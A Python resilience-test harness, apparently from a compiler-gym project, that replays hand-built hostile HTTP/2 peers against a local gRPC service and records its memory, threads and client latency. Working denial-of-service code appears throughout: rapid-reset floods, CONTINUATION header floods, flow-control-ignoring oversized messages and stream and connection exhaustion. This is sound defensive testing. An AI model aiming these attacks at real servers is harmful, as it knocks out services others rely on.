# SPDX-License-Identifier: MIT
"""Replays hostile HTTP/2 peers against a libcgym service and measures what they cost it.

Each attack runs against a fresh service process on loopback. While it runs, the service's
threads and resident memory are sampled from /proc/PID/status, and a well-behaved client (a
separate process, so that the attacker's Python does not slow it down) keeps stepping a
session and records each call's latency and outcome. After the attacker disconnects, the
service gets a bounded time to give its memory back.

The attacks (the peer speaks raw HTTP/2 frames; header blocks are HPACK-encoded with the
``hpack`` package of hyper-h2):

  rapid_reset         HEADERS then RST_STREAM, for many streams on one connection.
  open_streams        HEADERS only, never finished, for many streams on one connection.
  open_streams_noack  the same from a peer that never acknowledges the service's SETTINGS
                      (and so never learns its stream limit, as gRPC 1.51 sees it).
  unary_no_eos        unary requests (HEADERS and a DATA frame with a whole GetVersion
                      message) that never send END_STREAM, on one connection.
  continuation        one header block that never ends: HEADERS, then CONTINUATION frames of
                      4 KiB, each holding one 4 KiB header.
  big_message         one Step message far larger than the service's --max_message_bytes
                      (which the attack starts it with), sent within the flow-control windows.
  watch               Health/Watch calls (each served until the client leaves), as many per
                      connection as the service allows, over as many connections as it takes.
  idle                many connections that send the connection preface (half of them without
                      its SETTINGS frame) and then nothing.

Parameters of an attack can be changed with --set NAME=VALUE (e.g. --set streams=1000); see
the attack_* functions.

Usage (from the repository's root; prints a table, and the figures as JSON with --json):

  build/venv-test/bin/python tests/python/attacks.py --service PATH [--service PATH2] [--full]
      [--attack NAME ...] [--json FILE]

Without --full the counts are those of tests/python/test_attacks.py (smaller, still past
what an unbounded service survives); --full replays the counts of issue 15.
"""

import argparse
import json
import os
import resource
import selectors
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

MIB = 1024 * 1024

# ---------------------------------------------------------------------------------------------
# HTTP/2 frames (RFC 9113), written by hand so that the peer can break every rule it likes
# ---------------------------------------------------------------------------------------------

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE = range(9)
CONTINUATION = 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
SETTINGS_MAX_CONCURRENT_STREAMS, SETTINGS_INITIAL_WINDOW_SIZE, SETTINGS_MAX_FRAME_SIZE = 3, 4, 5
CANCEL = 0x8
MAX_WINDOW = 2**31 - 1
DEFAULT_WINDOW = 65535

SERVICE_PREFIX = "/compiler_gym.CompilerGymService/"


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream_id & 0x7FFFFFFF)
        + payload
    )


def settings_frame(values: dict) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in values.items()))


def hpack_int(value: int, prefix_bits: int, first_byte: int = 0) -> bytes:
    """An HPACK integer (RFC 7541, 5.1) with the given prefix, OR-ed into ``first_byte``."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte | value])
    out = bytearray([first_byte | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_literal_header(name: bytes, value_length: int) -> bytes:
    """The start of a literal header field without indexing, new name (RFC 7541, 6.2.2):
    everything but the value's ``value_length`` bytes."""
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(value_length, 7)


class HeaderBlocks:
    """HPACK blocks of a gRPC request's headers, for one connection's encoder state."""

    def __init__(self, port: int):
        import hpack  # hyper-h2's HPACK codec

        self._encoder = hpack.Encoder()
        self._port = port
        self._cache = {}

    def request(self, method: str) -> bytes:
        """The block for a POST to ``method``. The first block of a method adds its headers to
        the dynamic table; later ones refer to them, so one byte string serves every stream."""
        headers = [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", method if method.startswith("/") else SERVICE_PREFIX + method),
            (":authority", f"localhost:{self._port}"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ]
        if method in self._cache:
            return self._cache[method]
        first = self._encoder.encode(headers)
        self._cache[method] = self._encoder.encode(headers)
        return first


def grpc_message(payload: bytes) -> bytes:
    """A gRPC length-prefixed message (uncompressed)."""
    return b"\x00" + struct.pack(">I", len(payload)) + payload


class Stalled(Exception):
    """The service stopped reading from the connection for longer than the stall timeout."""


class Closed(Exception):
    """The service closed the connection."""


class RawConnection:
    """One HTTP/2 connection whose peer writes raw frames. A reader thread consumes what the
    service sends: it answers SETTINGS and PING as a normal peer would (unless told not to),
    keeps the flow-control windows the service grants, and counts resets and GOAWAYs."""

    def __init__(self, port: int, ack_settings: bool = True, stall_timeout: float = 5.0):
        self.port = port
        self.ack_settings = ack_settings
        self.stall_timeout = stall_timeout
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.settimeout(0.2)
        self.blocks = HeaderBlocks(port)
        self.next_stream_id = 1
        self._write_lock = threading.Lock()
        self.cv = threading.Condition()
        self.closed = threading.Event()
        self.closed_by_service = False
        self.goaway = None  # (last stream id, error code, debug data)
        self.resets_received = 0
        self.reset_streams = set()
        self.responses = 0  # HEADERS frames received (response headers or trailers)
        self.remote_settings = {}
        self.send_window = DEFAULT_WINDOW
        self.stream_windows = {}
        self.initial_stream_window = DEFAULT_WINDOW
        self.bytes_sent = 0
        # Our receive windows are as large as allowed, so the service never waits for us.
        self.write(
            PREFACE
            + settings_frame({SETTINGS_INITIAL_WINDOW_SIZE: MAX_WINDOW})
            + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", MAX_WINDOW - DEFAULT_WINDOW))
        )
        self._reader = threading.Thread(target=self._read_loop, daemon=True)
        self._reader.start()

    @property
    def max_frame_size(self) -> int:
        return self.remote_settings.get(SETTINGS_MAX_FRAME_SIZE, 16384)

    def new_stream_id(self) -> int:
        stream_id = self.next_stream_id
        self.next_stream_id += 2
        return stream_id

    def write(self, data: bytes) -> None:
        """Send all of ``data``; Stalled if the service reads none of it for stall_timeout
        seconds, Closed if the connection is gone."""
        view = memoryview(data)
        with self._write_lock:
            last_progress = time.monotonic()
            while view:
                if self.closed.is_set():
                    raise Closed()
                try:
                    n = self.sock.send(view)
                except socket.timeout:
                    if time.monotonic() - last_progress > self.stall_timeout:
                        raise Stalled() from None
                    continue
                except OSError:
                    self._mark_closed(by_service=True)
                    raise Closed() from None
                view = view[n:]
                self.bytes_sent += n
                last_progress = time.monotonic()

    def _mark_closed(self, by_service: bool = False) -> None:
        if not self.closed.is_set():
            self.closed_by_service = by_service
            self.closed.set()
        with self.cv:
            self.cv.notify_all()

    def _read_loop(self) -> None:
        buffer = bytearray()
        while not self.closed.is_set():
            try:
                chunk = self.sock.recv(1 << 16)
            except socket.timeout:
                continue
            except OSError:
                break
            if not chunk:
                break
            buffer += chunk
            while len(buffer) >= 9:
                length = int.from_bytes(buffer[0:3], "big")
                if len(buffer) < 9 + length:
                    break
                kind, flags = buffer[3], buffer[4]
                stream_id = int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF
                payload = bytes(buffer[9 : 9 + length])
                del buffer[: 9 + length]
                try:
                    self._on_frame(kind, flags, stream_id, payload)
                except (Closed, Stalled):
                    break
        self._mark_closed(by_service=True)

    def _on_frame(self, kind: int, flags: int, stream_id: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & ACK:
            with self.cv:
                for i in range(0, len(payload) - 5, 6):
                    key, value = struct.unpack(">HI", payload[i : i + 6])
                    if key == SETTINGS_INITIAL_WINDOW_SIZE:
                        delta = value - self.initial_stream_window
                        self.initial_stream_window = value
                        for sid in self.stream_windows:
                            self.stream_windows[sid] += delta
                    self.remote_settings[key] = value
                self.cv.notify_all()
            if self.ack_settings:
                self.write(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self.write(frame(PING, ACK, 0, payload))
        elif kind == WINDOW_UPDATE and len(payload) == 4:
            increment = struct.unpack(">I", payload)[0] & 0x7FFFFFFF
            with self.cv:
                if stream_id == 0:
                    self.send_window += increment
                elif stream_id in self.stream_windows:
                    self.stream_windows[stream_id] += increment
                self.cv.notify_all()
        elif kind == RST_STREAM:
            with self.cv:
                self.resets_received += 1
                self.reset_streams.add(stream_id)
                self.cv.notify_all()
        elif kind == GOAWAY and len(payload) >= 8:
            last, code = struct.unpack(">II", payload[:8])
            with self.cv:
                self.goaway = (last & 0x7FFFFFFF, code, payload[8:200].decode(errors="replace"))
                self.cv.notify_all()
        elif kind == HEADERS:
            self.responses += 1

    def send_data_flow_controlled(self, stream_id: int, data_source, total: int, deadline: float):
        """Send ``total`` bytes from ``data_source(n)`` as DATA frames, within the windows the
        service grants. Returns why it stopped: "sent", "reset", "goaway", "closed",
        "no window" (the service granted no more for stall_timeout seconds) or "time"."""
        with self.cv:
            self.stream_windows.setdefault(stream_id, self.initial_stream_window)
        sent = 0
        while sent < total:
            with self.cv:
                end = time.monotonic() + self.stall_timeout
                while True:
                    if stream_id in self.reset_streams:
                        return "reset", sent
                    if self.goaway is not None:
                        return "goaway", sent
                    if self.closed.is_set():
                        return "closed", sent
                    if time.monotonic() > deadline:
                        return "time", sent
                    window = min(self.send_window, self.stream_windows[stream_id])
                    if window > 0:
                        break
                    if time.monotonic() > end:
                        return "no window", sent
                    self.cv.wait(0.05)
                n = min(window, self.max_frame_size, total - sent)
                self.send_window -= n
                self.stream_windows[stream_id] -= n
            try:
                self.write(frame(DATA, 0, stream_id, data_source(n)))
            except Closed:
                return "closed", sent
            except Stalled:
                return "stalled", sent
            sent += n
        return "sent", sent

    def close(self) -> None:
        self._mark_closed()
        try:
            self.sock.close()
        except OSError:
            pass
        self._reader.join(timeout=5)

    def summary(self) -> dict:
        out = {
            "resets_received": self.resets_received,
            "responses": self.responses,
            "closed_by_service": self.closed_by_service,
            "max_concurrent_streams": self.remote_settings.get(SETTINGS_MAX_CONCURRENT_STREAMS),
        }
        if self.goaway:
            out["goaway"] = {"last_stream": self.goaway[0], "code": self.goaway[1]}
            if self.goaway[2]:
                out["goaway"]["debug"] = self.goaway[2]
        return out


# ---------------------------------------------------------------------------------------------
# The attacks. Each connects to 127.0.0.1:port, attacks, keeps its connections open for
# ``hold`` seconds (so that what the service holds is sampled), closes them and returns what
# it saw. ``stop`` is a threading.Event that ends an attack early.
# ---------------------------------------------------------------------------------------------


def _send_streams(conn: RawConnection, count: int, per_stream, batch: int = 500) -> int:
    """Open ``count`` streams, ``per_stream(stream_id)`` giving each one's frames; returns how
    many were sent before the connection closed or stalled."""
    sent = 0
    while sent < count:
        n = min(batch, count - sent)
        chunk = b"".join(per_stream(conn.new_stream_id()) for _ in range(n))
        try:
            conn.write(chunk)
        except (Closed, Stalled):
            break
        sent += n
    return sent


def _hold(conns, hold: float, stop: threading.Event) -> None:
    deadline = time.monotonic() + hold
    while time.monotonic() < deadline and not stop.is_set():
        if all(c.closed.is_set() for c in conns):
            break
        time.sleep(0.05)


def attack_rapid_reset(port, stop, streams=20000, hold=1.0, ack_settings=True):
    conn = RawConnection(port, ack_settings=ack_settings)
    time.sleep(0.05)  # the service's SETTINGS first, as a normal peer sees them
    block = _first_block_then_rest(conn, "GetVersion")

    def per_stream(sid):
        reset = frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL))
        return frame(HEADERS, END_HEADERS, sid, block()) + reset

    started = time.monotonic()
    sent = _send_streams(conn, streams, per_stream)
    seconds = time.monotonic() - started
    _hold([conn], hold, stop)
    conn.close()
    return {"streams_sent": sent, "send_seconds": round(seconds, 3), **conn.summary()}


def _first_block_then_rest(conn: RawConnection, method: str):
    """Header blocks for ``method``: the first stream's (which adds to the dynamic table),
    then the one every later stream uses."""
    first = conn.blocks.request(method)
    rest = conn.blocks.request(method)
    blocks = [first]

    def next_block():
        if blocks:
            return blocks.pop()
        return rest

    return next_block


def attack_open_streams(port, stop, streams=100000, hold=2.0, ack_settings=True):
    conn = RawConnection(port, ack_settings=ack_settings)
    time.sleep(0.05)
    block = _first_block_then_rest(conn, "GetVersion")
    started = time.monotonic()
    sent = _send_streams(conn, streams, lambda sid: frame(HEADERS, END_HEADERS, sid, block()))
    seconds = time.monotonic() - started
    _hold([conn], hold, stop)
    conn.close()
    return {"streams_sent": sent, "send_seconds": round(seconds, 3), **conn.summary()}


def attack_unary_no_eos(port, stop, streams=5000, hold=2.0, ack_settings=True):
    conn = RawConnection(port, ack_settings=ack_settings)
    time.sleep(0.05)
    block = _first_block_then_rest(conn, "GetVersion")
    message = grpc_message(b"")  # GetVersionRequest{}

    def per_stream(sid):
        return frame(HEADERS, END_HEADERS, sid, block()) + frame(DATA, 0, sid, message)

    started = time.monotonic()
    sent = _send_streams(conn, streams, per_stream, batch=250)
    seconds = time.monotonic() - started
    _hold([conn], hold, stop)
    conn.close()
    return {"streams_sent": sent, "send_seconds": round(seconds, 3), **conn.summary()}


def attack_watch(port, stop, streams=400, hold=2.0):
    """Health/Watch calls (server streaming: each one is served until the client leaves), as
    many per connection as the service's SETTINGS allow: a peer that keeps every rule."""
    conns = []
    sent = 0
    message = grpc_message(b"")  # HealthCheckRequest{}: the server's own status
    while sent < streams and not stop.is_set():
        conn = RawConnection(port)
        conns.append(conn)
        with conn.cv:
            conn.cv.wait_for(lambda c=conn: c.remote_settings or c.closed.is_set(), timeout=2)
        limit = conn.remote_settings.get(SETTINGS_MAX_CONCURRENT_STREAMS, 100)
        block = _first_block_then_rest(conn, "/grpc.health.v1.Health/Watch")
        n = min(limit, streams - sent)
        sent += _send_streams(
            conn,
            n,
            lambda sid, b=block: (
                frame(HEADERS, END_HEADERS, sid, b()) + frame(DATA, 0, sid, message)
            ),
        )
    _hold(conns, hold, stop)
    responses = sum(c.responses for c in conns)
    closed = sum(c.closed_by_service for c in conns)
    for conn in conns:
        conn.close()
    return {
        "streams_sent": sent,
        "connections": len(conns),
        "closed_by_service": closed,
        "responses": responses,
    }


# A padding header of exactly 4,096 bytes, so that four fill a 16 KiB frame exactly.
PAD_NAME = b"x-pad"
_PAD_VALUE_LENGTH = 4096 - len(hpack_literal_header(PAD_NAME, 4000))
PAD_HEADER = hpack_literal_header(PAD_NAME, _PAD_VALUE_LENGTH) + b"a" * _PAD_VALUE_LENGTH
assert len(PAD_HEADER) == 4096


def attack_continuation(
    port, stop, total_bytes=256 * MIB, hold=1.0, mode="headers", frame_size=4096, max_seconds=120.0
):
    """HEADERS without END_HEADERS, then CONTINUATION frames up to ``total_bytes`` of header
    block; the block never ends. ``mode`` "headers" fills it with 4 KiB headers, "value" with
    one header whose value is the whole block."""
    conn = RawConnection(port)
    time.sleep(0.05)
    size = frame_size
    sid = conn.new_stream_id()
    request = conn.blocks.request("GetVersion")
    # The HEADERS frame carries only the request's own headers; the rest comes in
    # CONTINUATION frames of `frame_size` bytes, whole headers in each ("headers" mode).
    if mode == "headers":
        payload = PAD_HEADER * max(1, size // len(PAD_HEADER))
        size = len(payload)
        first = request
    else:
        payload = b"a" * size
        first = request + hpack_literal_header(PAD_NAME, total_bytes)
    started = time.monotonic()
    reason = "sent"
    try:
        conn.write(frame(HEADERS, 0, sid, first))
        batch = frame(CONTINUATION, 0, sid, payload) * (MIB // size)  # 1 MiB per write
        sent_bytes = size
        while sent_bytes < total_bytes:
            if stop.is_set() or time.monotonic() - started > max_seconds:
                reason = "time"
                break
            if conn.goaway or conn.closed.is_set():
                reason = "closed"
                break
            conn.write(batch)
            sent_bytes += MIB
    except Closed:
        reason = "closed"
    except Stalled:
        reason = "stalled"
    seconds = time.monotonic() - started
    _hold([conn], hold, stop)
    conn.close()
    return {
        "header_bytes_sent": conn.bytes_sent,
        "stopped": reason,
        "send_seconds": round(seconds, 3),
        **conn.summary(),
    }


def _send_ignoring_flow_control(conn, sid, source, total, deadline):
    sent = 0
    size = 16384
    while sent < total:
        if sid in conn.reset_streams:
            return "reset", sent
        if conn.goaway is not None:
            return "goaway", sent
        if time.monotonic() > deadline:
            return "time", sent
        frames = []
        for _ in range(64):
            n = min(size, total - sent)
            if n <= 0:
                break
            frames.append(frame(DATA, 0, sid, source(n)))
            sent += n
        try:
            conn.write(b"".join(frames))
        except Closed:
            return "closed", sent
        except Stalled:
            return "stalled", sent
    return "sent", sent


def attack_big_message(
    port, stop, message_bytes=300 * MIB, hold=1.0, max_seconds=60.0, flow_control=True
):
    """One Step request announcing a message of ``message_bytes`` and sending it: as fast as
    the socket takes it (``flow_control`` false: a hostile peer ignores the windows), or
    within the windows the service grants."""
    conn = RawConnection(port, stall_timeout=3.0)
    time.sleep(0.05)
    sid = conn.new_stream_id()
    header = b"\x00" + struct.pack(">I", message_bytes)
    pending = [header]

    def source(n):  # the next n bytes of the message: its gRPC prefix, then zeros
        return pending.pop() + bytes(n - len(header)) if pending else bytes(n)

    started = time.monotonic()
    conn.write(frame(HEADERS, END_HEADERS, sid, conn.blocks.request("Step")))
    if flow_control:
        reason, sent = conn.send_data_flow_controlled(
            sid, source, message_bytes + 5, time.monotonic() + max_seconds
        )
    else:
        reason, sent = _send_ignoring_flow_control(
            conn, sid, source, message_bytes + 5, started + max_seconds
        )
    seconds = time.monotonic() - started
    _hold([conn], hold, stop)
    conn.close()
    return {
        "message_bytes_sent": sent,
        "stopped": reason,
        "send_seconds": round(seconds, 3),
        **conn.summary(),
    }


def attack_idle(port, stop, connections=500, hold=3.0, settings=True):
    """``connections`` connections that send the connection preface and then nothing:
    ``settings`` true sends the whole preface (the 24 magic bytes and an empty SETTINGS frame),
    false only the magic bytes (the HTTP/2 handshake never completes), "mixed" alternates.
    Counts those the service closes within ``hold`` seconds, and when."""
    _raise_fd_limit(connections + 256)
    selector = selectors.DefaultSelector()
    kinds = {}
    opened_at = time.monotonic()
    error = None
    try:
        for i in range(connections):
            if stop.is_set():
                break
            with_settings = settings is True or (settings == "mixed" and i % 2 == 0)
            s = socket.create_connection(("127.0.0.1", port), timeout=10)
            s.sendall(PREFACE + (frame(SETTINGS, 0, 0) if with_settings else b""))
            s.setblocking(False)
            selector.register(s, selectors.EVENT_READ)
            kinds[s] = "settings" if with_settings else "magic only"
    except OSError as e:
        error = str(e)
    closed_at = {kind: [] for kind in set(kinds.values())}
    open_count = len(kinds)
    deadline = time.monotonic() + hold
    while time.monotonic() < deadline and not stop.is_set() and open_count:
        for key, _ in selector.select(timeout=0.1):
            try:
                data = key.fileobj.recv(1 << 16)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if not data:
                selector.unregister(key.fileobj)
                closed_at[kinds[key.fileobj]].append(time.monotonic() - opened_at)
                open_count -= 1
    for s in kinds:
        s.close()
    selector.close()
    out = {"connections": len(kinds), "closed_by_service": len(kinds) - open_count}
    for kind, times in sorted(closed_at.items()):
        opened = sum(1 for k in kinds.values() if k == kind)
        out[kind] = {"opened": opened, "closed": len(times)}
        if times:
            out[kind]["closed_after_seconds"] = [round(min(times), 1), round(max(times), 1)]
    if error:
        out["connect_error"] = error
    return out


def _raise_fd_limit(want: int) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(want, soft)), hard))


@dataclass
class Attack:
    name: str
    run: object
    full: dict
    ci: dict
    # Extra flags for the service under this attack.
    service_args: list = field(default_factory=list)
    description: str = ""


MAX_MESSAGE_BYTES = 4194304

ATTACKS = {
    a.name: a
    for a in [
        Attack(
            "rapid_reset",
            attack_rapid_reset,
            full={"streams": 20000},
            ci={"streams": 20000},
            description="HEADERS+RST_STREAM x N, one connection",
        ),
        Attack(
            "open_streams",
            attack_open_streams,
            full={"streams": 100000},
            ci={"streams": 20000},
            description="HEADERS only, never finished, x N, one connection",
        ),
        Attack(
            "open_streams_noack",
            attack_open_streams,
            full={"streams": 100000, "ack_settings": False},
            ci={"streams": 20000, "ack_settings": False},
            description="open_streams from a peer that never acknowledges the service's SETTINGS",
        ),
        Attack(
            "unary_no_eos",
            attack_unary_no_eos,
            full={"streams": 5000},
            ci={"streams": 2000},
            description="HEADERS+DATA (a whole GetVersion) without END_STREAM x N",
        ),
        Attack(
            "continuation",
            attack_continuation,
            full={"total_bytes": 256 * MIB},
            ci={"total_bytes": 192 * MIB},
            description="one header block of N bytes in CONTINUATION frames, never ended",
        ),
        Attack(
            "big_message",
            attack_big_message,
            full={"message_bytes": 300 * MIB},
            ci={"message_bytes": 300 * MIB},
            service_args=[f"--max_message_bytes={MAX_MESSAGE_BYTES}"],
            description=f"one N-byte message to --max_message_bytes={MAX_MESSAGE_BYTES}",
        ),
        Attack(
            "watch",
            attack_watch,
            full={"streams": 400},
            ci={"streams": 400},
            description="N Health/Watch streams (each served by a thread until it ends)",
        ),
        Attack(
            "idle",
            attack_idle,
            full={"connections": 1000, "hold": 20.0, "settings": "mixed"},
            ci={"connections": 300, "hold": 20.0, "settings": "mixed"},
            description="N connections that send the preface (half without its SETTINGS), "
            "then nothing",
        ),
    ]
}

# ---------------------------------------------------------------------------------------------
# The well-behaved client: a separate process stepping one session (see probe_main)
# ---------------------------------------------------------------------------------------------


def _varint(value: int) -> bytes:
    value &= (1 << 64) - 1
    out = bytearray()
    while value >= 0x80:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def _field(number: int, payload: bytes) -> bytes:
    return _varint(number << 3 | 2) + _varint(len(payload)) + payload


def _read_varint_field_1(data: bytes) -> int:
    """Field 1 (a varint) of a protobuf message, 0 if absent."""
    i = 0
    while i < len(data):
        tag, i = _decode_varint(data, i)
        if tag & 7 == 0:
            value, i = _decode_varint(data, i)
            if tag >> 3 == 1:
                return value - (1 << 64) if value >= 1 << 63 else value
        elif tag & 7 == 2:
            length, i = _decode_varint(data, i)
            i += length
        elif tag & 7 == 1:
            i += 8
        elif tag & 7 == 5:
            i += 4
        else:
            break
    return 0


def _decode_varint(data: bytes, i: int):
    value, shift = 0, 0
    while True:
        byte = data[i]
        i += 1
        value |= (byte & 0x7F) << shift
        shift += 7
        if not byte & 0x80:
            return value, i


# The example services' benchmark and spaces (tests/python/test_protocol.py).
BENCHMARK_URI = b"benchmark://example-compiler-v0/foo"
FEATURES = 1
PROBE_INTERVAL = 0.005  # seconds between calls, so the probe leaves the CPU to the others
PROBE_TIMEOUT = 10.0  # deadline of each call


def probe_main(port: int) -> int:
    """The well-behaved client: starts a session, then steps it (one action, one observation)
    until its standard input closes; then prints every call's start time (time.monotonic,
    shared by the processes of this machine), latency and error (or null) as JSON."""
    import grpc

    options = [
        ("grpc.max_send_message_length", -1),
        ("grpc.max_receive_message_length", -1),
        ("grpc.enable_http_proxy", 0),
    ]
    channel = grpc.insecure_channel(f"localhost:{port}", options=options)
    grpc.channel_ready_future(channel).result(timeout=10)

    def method(name):
        return channel.unary_unary(SERVICE_PREFIX + name)

    program = _field(1, b"Ir data")  # File{contents}
    benchmark = _field(1, BENCHMARK_URI) + _field(2, program)
    reply = method("StartSession")(_field(4, benchmark), timeout=PROBE_TIMEOUT)
    session = _read_varint_field_1(reply)
    # Step{session_id, action: [Event{int64_value: 0}], observation_space: [FEATURES]}
    step_request = (
        _varint(1 << 3)
        + _varint(session)
        + _field(2, b"\x28\x00")
        + _varint(3 << 3)
        + bytes([FEATURES])
    )
    step = method("Step")
    step(step_request, timeout=PROBE_TIMEOUT)

    stopped = threading.Event()

    def wait_for_eof():
        sys.stdin.read()
        stopped.set()

    threading.Thread(target=wait_for_eof, daemon=True).start()
    print("ready", flush=True)
    calls = []
    while not stopped.is_set():
        started = time.monotonic()
        try:
            step(step_request, timeout=PROBE_TIMEOUT)
            error = None
        except grpc.RpcError as e:
            error = f"{e.code().name}: {(e.details() or '')[:200]}"
        calls.append((round(started, 4), round(time.monotonic() - started, 5), error))
        stopped.wait(PROBE_INTERVAL if error is None else 0.05)
    try:
        method("EndSession")(_varint(1 << 3) + _varint(session), timeout=PROBE_TIMEOUT)
    except grpc.RpcError:
        pass
    channel.close()
    print(json.dumps(calls), flush=True)
    return 0


class Probe:
    def __init__(self, port: int):
        self.process = subprocess.Popen(
            [sys.executable, str(Path(__file__).resolve()), "--probe", str(port)],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
        )
        line = self.process.stdout.readline()
        if line.strip() != "ready":
            self.process.kill()
            raise RuntimeError(f"the well-behaved client did not start: {line!r}")

    def stop(self, timeout: float = 30.0):
        """Stop the client; returns its calls [(start, latency, error)]."""
        try:
            out, _ = self.process.communicate(input="", timeout=timeout)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.communicate()
            raise RuntimeError("the well-behaved client did not stop") from None
        return [tuple(c) for c in json.loads(out.strip().splitlines()[-1])]


# ---------------------------------------------------------------------------------------------
# The service under attack, and sampling it
# ---------------------------------------------------------------------------------------------


def read_status(pid: int):
    """(threads, VmRSS in bytes) of process ``pid``, or None once it has exited."""
    try:
        text = Path(f"/proc/{pid}/status").read_text()
    except (FileNotFoundError, ProcessLookupError):
        return None
    threads = rss = 0
    for line in text.splitlines():
        if line.startswith("Threads:"):
            threads = int(line.split()[1])
        elif line.startswith("VmRSS:"):
            rss = int(line.split()[1]) * 1024
    return threads, rss


class Sampler:
    """Samples a process's threads and RSS every ``interval`` seconds in a thread."""

    def __init__(self, pid: int, interval: float = 0.02):
        self.pid = pid
        self.interval = interval
        self.samples = []  # (time.monotonic(), threads, rss)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self):
        while not self._stop.is_set():
            status = read_status(self.pid)
            if status is None:
                return
            self.samples.append((time.monotonic(), *status))
            self._stop.wait(self.interval)

    def stop(self):
        self._stop.set()
        self._thread.join(timeout=5)


class ServiceUnderTest:
    """A service binary started on an ephemeral loopback port in a fresh working directory."""

    def __init__(self, binary: str, args=(), workdir: Path = None):
        self._tmp = None
        self._stderr = None
        if workdir is None:
            self._tmp = tempfile.TemporaryDirectory(prefix="cgym-attacks-")
            workdir = Path(self._tmp.name)
        self.workdir = Path(workdir) / "wd"
        env = dict(os.environ)
        # Plain loopback TCP and no token: what an attacker on this machine reaches.
        for var in ("CGYM_SERVICE_HOST", "CGYM_SERVICE_TOKEN"):
            env.pop(var, None)
        self.stderr_path = Path(workdir) / "stderr.txt"
        with open(self.stderr_path, "wb") as err:
            self.process = subprocess.Popen(
                [binary, f"--working_dir={self.workdir}", *args],
                stdin=subprocess.DEVNULL,
                stdout=subprocess.DEVNULL,
                stderr=err,
                env=env,
            )
        self.port = self._wait_for_port()

    def _wait_for_port(self, timeout: float = 10.0) -> int:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            try:
                return int((self.workdir / "port.txt").read_text().rstrip())
            except (FileNotFoundError, ValueError):
                pass
            if self.process.poll() is not None:
                break
            time.sleep(0.02)
        self.stop()
        raise RuntimeError(f"service did not start: {self.stderr()[-2000:]}")

    @property
    def pid(self) -> int:
        return self.process.pid

    def stderr(self) -> str:
        if self._stderr is None:
            return self.stderr_path.read_text(errors="replace")
        return self._stderr

    def stop(self) -> int:
        if self.process.poll() is None:
            self.process.send_signal(signal.SIGTERM)
            try:
                self.process.wait(timeout=30)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait()
        if self._stderr is None:
            self._stderr = self.stderr_path.read_text(errors="replace")
        if self._tmp:
            self._tmp.cleanup()
        return self.process.returncode


# ---------------------------------------------------------------------------------------------
# One attack, measured
# ---------------------------------------------------------------------------------------------

# Memory has "returned" when RSS is back within this of its idle size.
RECOVERED_WITHIN_BYTES = 32 * MIB
# How long the service gets to return to that after the attacker leaves.
SETTLE_SECONDS = 10.0


def percentile(values, q):
    if not values:
        return None
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(round(q * (len(ordered) - 1))))]


@dataclass
class Result:
    service: str
    attack: str
    params: dict
    attacker: dict
    idle_threads: int
    idle_rss: int
    max_threads: int
    max_rss: int
    rss_after: int
    threads_after: int
    recovered_seconds: float  # None: not within SETTLE_SECONDS
    calls: int
    errors: int
    error_examples: list
    p50: float
    p99: float
    max_latency: float
    service_alive: bool
    service_stderr_tail: str = ""

    @property
    def max_rss_above_idle(self) -> int:
        return self.max_rss - self.idle_rss

    @property
    def rss_after_above_idle(self) -> int:
        return self.rss_after - self.idle_rss

    def as_dict(self) -> dict:
        d = dict(self.__dict__)
        d["max_rss_above_idle"] = self.max_rss_above_idle
        d["rss_after_above_idle"] = self.rss_after_above_idle
        return d


def run_attack(
    binary: str,
    attack: str,
    params: dict = None,
    full: bool = False,
    settle: float = SETTLE_SECONDS,
    log=None,
) -> Result:
    """Start ``binary``, start the well-behaved client, replay ``attack`` (its CI or --full
    counts, updated with ``params``), wait for the memory to return, stop everything."""
    spec = ATTACKS[attack]
    kwargs = dict(spec.full if full else spec.ci)
    kwargs.update(params or {})
    service = ServiceUnderTest(binary, spec.service_args)
    probe = None
    sampler = None
    try:
        probe = Probe(service.port)
        time.sleep(0.5)  # the first calls warm up the service
        idle = [read_status(service.pid) for _ in range(10) if not time.sleep(0.02)]
        idle_threads = max(t for t, _ in idle)
        idle_rss = max(r for _, r in idle)
        sampler = Sampler(service.pid)
        stop = threading.Event()
        started = time.monotonic()
        attacker = spec.run(service.port, stop, **kwargs)
        left = time.monotonic()
        # The service has until `settle` to give its memory back.
        recovered = None
        while time.monotonic() - left < settle:
            status = read_status(service.pid)
            if status is None:
                break
            if status[1] - idle_rss <= RECOVERED_WITHIN_BYTES:
                recovered = time.monotonic() - left
                break
            time.sleep(0.1)
        calls = probe.stop()
        probe = None
        sampler.stop()
        # What the attack costs includes what the service does after the attacker left.
